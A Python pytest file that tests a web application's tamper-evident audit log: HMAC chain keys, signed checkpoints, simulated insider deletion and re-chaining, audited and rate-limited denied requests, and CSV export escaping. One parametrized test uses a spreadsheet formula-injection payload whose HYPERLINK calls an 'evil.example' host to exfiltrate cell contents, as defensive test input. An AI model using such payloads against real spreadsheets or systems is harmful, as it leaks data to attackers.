"""Issue 18 security list, audit: the keyed chain and signed checkpoints detect a truncated tail
and a deletion followed by recomputing the chain; `critmin audit verify`; denied requests
(403, CSRF, unknown token, 401) are audited and rate-limited; CSV exports neutralise formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from critmin.web import audit
from web_support import USERS, bearer, login, web_db, web_db_template  # noqa: F401


@pytest.fixture()
def client(web_db):  # noqa: F811
    from critmin.web.app import create_app

    app = create_app(web_db.path)
    with TestClient(app) as c:
        yield c, web_db, app


def _con(app):
    return app.state.ctx.db.cursor()


def _fill(app, n: int) -> None:
    for i in range(n):
        app.state.ctx.audit(None, None, "test.event", "ok", actor=f"u{i}", detail={"i": i})


def _cli(db, *args):
    from critmin.cli.main import app as cli

    return CliRunner().invoke(cli, ["--db", str(db.path), "audit", *args])


def test_key_file_is_created_0600_outside_the_database_and_keys_the_chain(client):
    c, db, app = client
    _fill(app, 3)
    with _con(app) as con:
        path = audit.key_path(con)
        rows = con.execute("SELECT seq, hash FROM web_audit ORDER BY seq").fetchall()
        key = audit.hmac_key(con)
    assert path.is_file() and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.suffix == ".key" and path.resolve() != db.path.resolve()
    assert key.hex() not in db.path.read_bytes().hex()  # not in the warehouse file
    # the stored hash is an HMAC with that key, not a plain SHA-256 anyone can recompute
    import hashlib

    with _con(app) as con:
        r = con.execute('SELECT seq, "at", actor, role, action, target, outcome, detail, client, prev_hash, hash'
                        " FROM web_audit ORDER BY seq LIMIT 1").fetchone()
    values = (r[0], r[1].isoformat(), *r[2:9])
    text = "|".join([r[9]] + ["" if v is None else str(v) for v in values])
    assert r[10] != hashlib.sha256(text.encode()).hexdigest()
    assert len(rows) >= 3


def test_truncated_tail_is_detected_against_the_checkpoint(client):
    c, db, app = client
    _fill(app, 6)
    with _con(app) as con:
        cp = audit.checkpoint(con)
        assert audit.verify_chain(con)[0]
        n = cp["seq"]
        # delete the newest two rows behind the application's back: the rest still chains
        con.execute("DELETE FROM web_audit WHERE seq > ?", [n - 2])
        ok, msg = audit.verify_chain(con)
    assert not ok and "truncated" in msg and f"seq={n}" in msg
    r = _cli(db, "verify")
    assert r.exit_code == 2 and "truncated" in r.output


def test_deletion_followed_by_a_recomputed_chain_is_detected(client):
    c, db, app = client
    _fill(app, 8)
    with _con(app) as con:
        audit.checkpoint(con)
        key = audit.hmac_key(con)
        # an insider with the database AND the key deletes row 4 and re-chains everything after it
        rows = con.execute('SELECT seq, "at", actor, role, action, target, outcome, detail, client'
                           " FROM web_audit ORDER BY seq").fetchall()
        con.execute("DELETE FROM web_audit")
        prev = audit.GENESIS
        seq = 0
        for r in rows:
            if r[0] == 4:
                continue
            seq += 1
            values = (seq, r[1].isoformat(), *r[2:9])
            h = audit._row_hash(key, prev, values)
            con.execute('INSERT INTO web_audit (seq, "at", actor, role, action, target, outcome, detail, client,'
                        " prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", [seq, r[1], *r[2:9], prev, h])
            prev = h
        # then appends one row so the length matches the checkpoint again
        audit.record(con, actor="insider", role=None, action="test.event", outcome="ok")
        ok, msg = audit.verify_chain(con)
    assert not ok and "rewritten" in msg, msg


def test_recomputing_without_the_key_is_detected_by_the_chain_itself(client):
    import hashlib

    c, db, app = client
    _fill(app, 4)
    with _con(app) as con:
        r = con.execute('SELECT seq, "at", actor, role, action, target, outcome, detail, client, prev_hash'
                        " FROM web_audit WHERE seq = (SELECT max(seq) FROM web_audit)").fetchone()
        forged = hashlib.sha256(b"anything").hexdigest()
        con.execute("UPDATE web_audit SET outcome = 'failed', hash = ? WHERE seq = ?", [forged, r[0]])
        ok, msg = audit.verify_chain(con)
    assert not ok and f"seq={r[0]}" in msg and "altered" in msg


def test_checkpoints_are_signed_exportable_and_a_forged_one_is_caught(client):
    c, db, app = client
    _fill(app, 2)
    admin = bearer(db.tokens["joint-admin"])
    cp = c.post("/api/audit/checkpoint", headers=admin).json()
    assert cp["seq"] >= 3 and len(cp["sig"]) == 64
    listed = c.get("/api/audit/checkpoints", headers=admin).json()
    assert listed[-1]["seq"] == cp["seq"] and listed[-1]["valid"] is True
    assert c.get("/api/audit/checkpoints", headers=bearer(db.tokens["us-analyst"])).status_code == 403
    r = _cli(db, "checkpoints")
    assert r.exit_code == 0 and json.loads(r.output)[-1]["hash"] == cp["hash"]
    r = _cli(db, "verify")
    assert r.exit_code == 0 and r.output.startswith("ok:")
    # a checkpoint file edited to hide a truncation (lower seq) no longer verifies
    with _con(app) as con:
        path = audit.checkpoint_path(con)
    lines = path.read_text().splitlines()
    last = json.loads(lines[-1])
    last["seq"] = 1
    path.write_text("\n".join(lines[:-1] + [json.dumps(last)]) + "\n")
    with _con(app) as con:
        ok, msg = audit.verify_chain(con)
    assert not ok and "bad signature" in msg
    assert c.get("/api/audit/verify", headers=admin).json()["ok"] is False


def test_periodic_checkpoint_only_when_the_head_moved(client):
    c, db, app = client
    _fill(app, 1)
    with _con(app) as con:
        first = audit.checkpoint(con, only_if_moved=True)
        assert first is not None
        assert audit.checkpoint(con, only_if_moved=True) is None
    _fill(app, 1)
    with _con(app) as con:
        assert audit.checkpoint(con, only_if_moved=True)["seq"] == first["seq"] + 1


# -- denied requests -------------------------------------------------------------------------------------


def test_403_csrf_401_and_unknown_tokens_are_audited(client):
    c, db, app = client
    # 403: a role the rule does not list
    assert c.get("/api/audit", headers=bearer(db.tokens["us-analyst"])).status_code == 403
    # 401: an unknown token (its id is logged, never the secret)
    assert c.get("/api/me", headers=bearer("cm_abcdef123456_notarealsecret")).status_code == 401
    # 401: no credentials at all
    assert c.get("/api/projects").status_code == 401
    # CSRF: a session write without the token
    login(c, USERS["jp-analyst"])
    assert c.post("/api/simulations", json={"scenario": "cn_graphite_licensing_2023"}).status_code == 403
    # CSRF on the login form itself
    assert TestClient(app).post("/login", data={"username": "x", "password": "y", "csrf_token": "z"}).status_code == 403
    with _con(app) as con:
        denied = audit.entries(con, action="denied")
    reasons = [(e["action"], e["target"], json.loads(e["detail"])["reason"]) for e in denied]
    assert ("denied.403", "GET /api/audit", "role us-analyst not allowed") in reasons
    assert any(a == "denied.401" and "unknown or revoked" in why for a, _, why in reasons)
    assert any(a == "denied.401" and t == "GET /api/projects" for a, t, _ in reasons)
    assert ("denied.403", "POST /api/simulations", "CSRF token missing or wrong") in reasons
    assert any(t == "POST /login" and "CSRF" in why for _, t, why in reasons)
    tok = next(e for e in denied if "unknown or revoked" in e["detail"])
    assert json.loads(tok["detail"])["token_id"] == "abcdef123456" and "notarealsecret" not in tok["detail"]
    assert next(e for e in denied if e["target"] == "GET /api/audit")["actor"] == USERS["us-analyst"]
    with _con(app) as con:
        assert audit.verify_chain(con)[0]


def test_a_flood_of_denied_requests_cannot_fill_the_log(client, monkeypatch):
    c, db, app = client
    monkeypatch.setenv("CRITMIN_WEB_AUDIT_DENIED_PER_MIN", "10")
    with _con(app) as con:
        before = len(audit.entries(con))
    for i in range(300):
        assert c.get("/api/me", headers=bearer(f"cm_{i:012d}_x")).status_code == 401
    with _con(app) as con:
        rows = audit.entries(con, action="denied")
        grown = len(audit.entries(con)) - before
    assert len(rows) == 10 and grown == 10
    # after the minute, the next one written says how many were left out
    limiter = app.state.denied_limiter
    limiter._win = {k: (v[0] - 61, v[1]) for k, v in limiter._win.items()}
    limiter._total = (limiter._total[0] - 61, limiter._total[1])
    c.get("/api/me", headers=bearer("cm_000000000999_x"))
    with _con(app) as con:
        newest = audit.entries(con, action="denied", limit=1)[0]
    assert json.loads(newest["detail"])["suppressed_before"] == 290


# -- CSV exports ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formula_prefixes(client, prefix):
    c, db, app = client
    payload = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'
    # through the application: a failed login with that user name is logged verbatim as actor
    login(c, payload[:64], "wrong password x")
    r = c.get("/api/audit/export?format=csv", headers=bearer(db.tokens["joint-admin"]))
    rows = list(csv.DictReader(io.StringIO(r.text)))
    cells = [row["actor"] for row in rows if "HYPERLINK" in row["actor"]]
    assert cells and all(cell.startswith("'") and cell[1:] == payload[:64] for cell in cells)
    for row in rows:
        for v in row.values():
            assert not (v or "").startswith(audit.FORMULA_PREFIXES), (row, v)
    # the JSON export keeps the exact value (no spreadsheet reads it)
    j = c.get("/api/audit/export?format=json", headers=bearer(db.tokens["joint-admin"])).json()
    assert any(e["actor"] == payload[:64] for e in j)


def test_key_file_readable_by_others_is_refused(tmp_path, monkeypatch):
    key = tmp_path / "k.key"
    key.write_text(os.urandom(32).hex())
    key.chmod(0o644)
    monkeypatch.setenv("CRITMIN_WEB_AUDIT_KEY_FILE", str(key))
    audit._keys.clear()
    with pytest.raises(audit.AuditKeyError, match="chmod 600"):
        audit.hmac_key(object())
    audit._keys.clear()


def test_cli_verify_and_checkpoint(client):
    c, db, app = client
    _fill(app, 2)
    r = _cli(db, "checkpoint")
    assert r.exit_code == 0 and "checkpoint seq=" in r.output
    assert _cli(db, "verify").exit_code == 0
    login(c, USERS["viewer"], "wrong password x")  # one more row after the checkpoint is fine
    assert _cli(db, "verify").exit_code == 0
